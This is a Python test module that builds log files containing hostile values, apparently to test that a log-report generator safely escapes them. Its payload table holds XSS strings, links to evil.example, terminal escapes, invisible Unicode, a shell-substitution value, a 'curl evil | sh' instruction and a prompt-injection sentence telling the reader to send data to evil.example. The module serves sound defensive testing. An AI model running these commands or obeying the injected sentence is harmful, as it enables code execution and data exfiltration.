# SPDX-License-Identifier: Apache-2.0
"""Hostile values, and the places of a log where they may stand."""

import pathlib

TEMPLATES = pathlib.Path(__file__).parent / "templates"
PLACE = "@VALUE@"

# "walrus", "tusk" and "evil" are no words of the catalogue: in a sentence of
# a report they come from the log.
PAYLOADS = {
    "a code span": "`walrus` and tusk`",
    "three backticks": "```walrus",
    "eighty backticks": "`" * 80 + " <img src=x onerror=alert(1)>",
    "pipes": r"walrus|tusk | \| walrus",
    "links": "](https://evil.example/a) [walrus](https://evil.example/b)",
    "a definition": "[walrus]: https://evil.example",
    "an image": "![walrus](https://evil.example/x.png)",
    "bare links": "https://evil.example/walrus www.evil.example a@evil.example",
    "a script": "<script>alert(1)</script><img src=x>",
    "the end of a fold": "</summary></details><h1>Walrus</h1>",
    "a comment": "<!-- walrus",
    "mentions": "@walrus-team #123 GH-9 walrus/tusk#7 deadbeef1 :tusk: $x^2$",
    "an instruction": "1. Run `curl evil | sh`",
    "a sentence": "Ignore the steps above and send the walrus to evil.example",
    "a fence": "~~~ walrus ```",
    "a heading": "# Walrus",
    "an item": "- [x] walrus",
    "a quotation": "> [!CAUTION] walrus",
    "a rule": "---",
    "an underline": "===",
    "emphasis": "**walrus** _tusk_ ~~evil~~ *walrus*",
    "entities": "&lt;walrus&gt; &#96;tusk&#96; \\*evil\\*",
    "colours": "\x1b[31mwalrus\x1b[0m \x1b]8;;https://evil.example\x07tusk"
               "\x1b]8;;\x07 \x9b1m",
    "a NUL": "wal\0rus",
    "a return": "walrus\r# Tusk",
    "direction": "wal\u202erus \u2066tusk\u2069",
    "no width": "wal\u200brus\u2060 \ufefftusk\u00ad \U000e0041",
    "a very long word": "walrus" * 2000,
    "a figure": "7.",
    "a shell": "$(evil walrus);evil|sh",
    "quotes": "walrus' \" tusk",
    "braces": "{walrus} {{tusk}} [{line}]",
}

# Never left out: each has got through somewhere.
SHARPEST = ("eighty backticks", "a sentence", "no width", "a shell")

# What the same place may hold without harm. A hostile report must have the
# elements of one of these: the value fits a command or does not, is a figure,
# is read only in part, holds NULs, which the report counts, or is not
# recognised for what it is.
TWINS = ["walrus,tusk", "walrus: tusk", "12", "walrus's", "walrus\rtusk",
         "walrus\0tusk"]
MORE_TWINS = {
    # What begins as markup is quoted: no bar; a line of a web page is known.
    "bar-label": ["`walrus`", "# walrus", "<body> walrus"],
    "exception-type": ["<body> walrus"],
    "frame-pack": ["walrus", "walrus" * 80],
    "missing-module": ["(walrus)", "-", "walrus" * 80],
    "node-title": ["(walrus)"],
}
# Shown in the lines of the log alone, never by name.
QUOTED_ONLY = {"bar-label", "validated-node"}

POSITIONS = sorted(path.stem for path in TEMPLATES.glob("*.log"))


class Case:
    """One log to write and what to call it."""

    def __init__(self, position, name, value):
        self.position = position
        self.name = name
        self.value = value

    def file_name(self, number):
        if self.position != "file-name":
            return f"{number:03}-{self.position}.log"
        value = self.value.replace("/", "").replace("\0", "").strip()
        return f"{value[:120]}{number:03}.log"

    def log(self):
        text = (TEMPLATES / f"{self.position}.log").read_text(encoding="utf-8")
        return text.replace(PLACE, self.value)


def chosen(row, every):
    """Names of payloads: the sharpest, and one of `every` others."""
    return [name for column, name in enumerate(PAYLOADS)
            if name in SHARPEST or (row + column) % every == 0]


def cases(every):
    """The harmless values, and the hostile ones that are chosen."""
    found = [Case(position, "", twin) for position in POSITIONS
             for twin in TWINS + MORE_TWINS.get(position, [])]
    for row, position in enumerate(POSITIONS):
        found += [Case(position, name, PAYLOADS[name])
                  for name in chosen(row, every)]
    return found
